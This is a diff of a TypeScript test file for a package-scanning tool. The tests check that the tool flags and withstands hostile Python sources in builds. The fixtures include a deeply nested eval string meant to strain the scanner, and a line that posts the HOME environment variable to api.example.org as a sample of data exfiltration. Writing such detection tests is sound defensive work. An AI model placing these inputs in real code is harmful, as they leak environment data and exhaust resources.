@@ -8,7 +8,8 @@ import { runProcess } from '../run/script-process.ts';
 import type { Ended } from '../run/script-process.ts';
 import { GitFixture, build, temporaryFolder } from './git-fixture.ts';
 import type { Files } from './git-fixture.ts';
-import { readTree } from './index-reader.ts';
+import { readRecord, readTree } from './index-reader.ts';
+import type { PackageRecord } from '../../format/index/record.ts';
 
 const GENERATE = join(import.meta.dirname, '../../generator/commands/generate.ts');
 const GATE = join(import.meta.dirname, '../../generator/commands/gate.ts');
@@ -24,17 +25,25 @@ const HOSTILE: Readonly<Record<string, string>> = {
   eval: `import os\n${'eval("'.repeat(25_000)}`,
 };
 
-interface Shown {
-  readonly risk: string;
-  readonly findings: readonly { code: string; file: string; level: string; message: string }[];
-}
+const PATHS: Files = Object.fromEntries(
+  Object.keys(HOSTILE)
+    .sort()
+    .map((name) => [`src/${name}.py`, HOSTILE[name]!]),
+);
 
-function shown(tree: Readonly<Record<string, string>>, id: string): Shown {
-  return JSON.parse(tree[`builds/${id}.json`] ?? '{}') as Shown;
-}
-
-function endOf({ findings }: Shown): string[] {
+function unreadIn({ findings }: Shown): string[] {
   return findings
+    .filter(({ code }) => code === 'source-unread')
+    .map(({ file }) => file)
+    .sort();
+}
+
+interface Shown {
+  readonly findings: readonly { readonly code: string; readonly file: string }[];
+}
+
+function endOf({ checks }: Pick<PackageRecord, 'checks'>): string[] {
+  return checks.findings
     .filter(({ code }) => code === 'scan-ended')
     .map(({ level, file, message }) => `${level} ${file}: ${message}`);
 }
@@ -79,18 +88,17 @@ describe('generate', { timeout: 180_000 }, () => {
       const run = await program(GENERATE, [...args, '--scan-seconds', '3']);
       expect([run.status, run.stderr]).toEqual([0, '']);
       expect(run.stdout).toMatch(/^builds: 5, versions: 5;/);
-      const tree = readTree(out);
-      expect(['a/before', 'c/after'].map((id) => endOf(shown(tree, id)))).toEqual([[], []]);
+      expect(['a/before', 'c/after'].map((id) => endOf(readRecord(out, id)))).toEqual([[], []]);
       const reason = 'error src/a.py: The build was not scanned: the scanner';
-      expect(endOf(shown(tree, 'b/crash'))).toEqual([
+      expect(endOf(readRecord(out, 'b/crash'))).toEqual([
         `${reason} crashed (SIGSEGV), also without its native parser`,
       ]);
-      expect(endOf(shown(tree, 'b/memory'))).toEqual([`${reason} had not enough memory`]);
-      expect(endOf(shown(tree, 'b/time'))).toEqual([
+      expect(endOf(readRecord(out, 'b/memory'))).toEqual([`${reason} had not enough memory`]);
+      expect(endOf(readRecord(out, 'b/time'))).toEqual([
         `${reason} needed more than 3 s of processor time`,
       ]);
       expect(
-        ['a/before', 'b/crash', 'b/memory', 'b/time'].map((id) => shown(tree, id).risk),
+        ['a/before', 'b/crash', 'b/memory', 'b/time'].map((id) => readRecord(out, id).checks.risk),
       ).toEqual(['ok', 'danger', 'danger', 'danger']);
       const next = await program(GENERATE, args);
       expect([next.status, next.stdout]).toEqual([0, expect.stringContaining('0 written')]);
@@ -107,9 +115,10 @@ describe('generate', { timeout: 180_000 }, () => {
     expect((await program(GENERATE, [...args, '--out', sound], false)).status).toBe(0);
     const run = await program(GENERATE, [...args, '--out', faulty]);
     expect([run.status, run.stderr]).toEqual([0, '']);
-    const tree = readTree(faulty);
-    expect(shown(tree, 'a/x').findings.map(({ code }) => code)).toContain('data-exfiltration-env');
-    expect(tree).toEqual(readTree(sound));
+    expect(readRecord(faulty, 'a/x').checks.findings.map(({ code }) => code)).toContain(
+      'data-exfiltration-env',
+    );
+    expect(readTree(faulty)).toEqual(readTree(sound));
   });
 
   it('reads hostile files within its bounds', async () => {
@@ -132,9 +141,10 @@ describe('generate', { timeout: 180_000 }, () => {
       '--no-client',
     );
     expect([run.status, run.stderr]).toEqual([0, '']);
-    const tree = readTree(out);
     for (const name of names) {
-      const found = shown(tree, `a/${name}`).findings.map(({ code, file }) => `${code} ${file}`);
+      const found = readRecord(out, `a/${name}`).checks.findings.map(
+        ({ code, file }) => `${code} ${file}`,
+      );
       expect(found, name).toContain('source-unread src/a.py');
     }
   });
@@ -143,7 +153,7 @@ describe('generate', { timeout: 180_000 }, () => {
     const run = await program(GENERATE, ['--scan-seconds', '0'], false);
     expect([run.status, run.stderr]).toEqual([
       2,
-      'error: Option --scan-seconds is "0": it must be a number from 1 to 99999\nhint: see npm run generate -- --help\n',
+      'error: Option --scan-seconds is "0": it must be a number from 1 to 99999 [ERR_USAGE]\nhint: see npm run generate -- --help\n',
     ]);
   });
 });
@@ -182,37 +192,38 @@ describe('gate', { timeout: 180_000 }, () => {
   it('names everything as gained after a version whose scan ends its process', async () => {
     const gate = new GateFixture();
     gate.git.commit(withFile('alice/old-parts', 'src/a.py', 'import os\n# FAULT_CRASH\n'));
-    const next = build('alice/old-parts', '1.1.0', {}, {
-      'src/a.py':
-        "import os, requests\nrequests.post('https://api.example.org/', os.getenv('HOME'))\n",
-    });
+    const next = build(
+      'alice/old-parts',
+      '1.1.0',
+      {},
+      {
+        'src/a.py':
+          "import os, requests\nrequests.post('https://api.example.org/', os.getenv('HOME'))\n",
+      },
+    );
     const run = await judge(gate, gate.pull(next), true);
     expect(JSON.parse(run.stdout)).toMatchObject({
       builds: [{ previous: '1.0.0', gained: { hosts: ['api.example.org'] } }],
     });
   });
 
-  it.each(Object.keys(HOSTILE))('judges a build with a hostile file: %s', async (name) => {
+  it('judges a build with hostile files', async () => {
     const gate = new GateFixture();
-    const run = await judge(
-      gate,
-      gate.pull(withFile('alice/new-parts', 'src/a.py', HOSTILE[name]!)),
-      false,
-    );
+    const run = await judge(gate, gate.pull(build('alice/new-parts', '1.0.0', {}, PATHS)), false);
     expect([run.status, run.stderr]).toEqual([0, '']);
-    const [judged] = (JSON.parse(run.stdout) as { builds: [Shown] }).builds;
-    expect(judged.findings.map(({ code }) => code)).toContain('source-unread');
+    const { builds } = JSON.parse(run.stdout) as { builds: Shown[] };
+    expect(unreadIn(builds[0]!)).toEqual(Object.keys(PATHS));
   });
 });
 
 describe('stackyard check', { timeout: 180_000 }, () => {
-  it.each(Object.keys(HOSTILE))('judges a build with a hostile file: %s', async (name) => {
+  it('judges a build with hostile files', async () => {
     const git = new GitFixture();
-    git.commit(withFile('alice/parts', 'src/a.py', HOSTILE[name]!));
+    git.commit(build('alice/parts', '1.0.0', {}, PATHS));
     const folder = join(git.folder, 'builds/alice/parts');
     const run = await program(CLIENT, ['check', folder, '--json'], false);
     expect([run.status, run.stderr]).toEqual([0, '']);
     const { data } = JSON.parse(run.stdout) as { data: Shown };
-    expect(data.findings.map(({ code }) => code)).toContain('source-unread');
+    expect(unreadIn(data)).toEqual(Object.keys(PATHS));
   });
 });
